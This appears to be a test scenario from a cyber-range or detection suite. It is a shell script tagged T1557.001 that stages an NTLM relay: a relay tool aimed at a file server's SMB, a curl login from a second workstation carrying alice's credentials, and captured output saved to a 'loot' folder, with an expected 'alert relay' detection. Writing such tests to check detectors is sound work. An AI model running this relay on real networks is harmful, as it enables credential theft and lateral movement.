# SPDX-License-Identifier: Apache-2.0
# what: ws2's logon at a web server of ws1 relayed to fs1
# technique: T1557.001
# from: ws1
# to: fs1
# account: alice
# outcome: success
# must: alert relay
. "$RANGE_HERE/item.sh"
cd "$HOME"
mkdir -p loot
sleep 30 | timeout 20 /usr/bin/python3 "$RANGE_HERE/relay.py" -t smb://$fs1 -smb2support --no-wcf-server --no-raw-server --no-smb-server --http-port 8080 -of loot/h >"$HOME/relay.log" 2>&1 &
i=0
until nc -z 127.0.0.1 8080 || [ $i = 80 ]; do i=$((i + 1)); sleep 0.2; done
at ws2 curl -sS -m 15 --ntlm -u "CORP\\alice:$USER_PASSWORD" http://$ws1:8080/x -o /dev/null || true
sleep 2
cat "$HOME/relay.log"
says 'SUCCEED' cat "$HOME/relay.log"
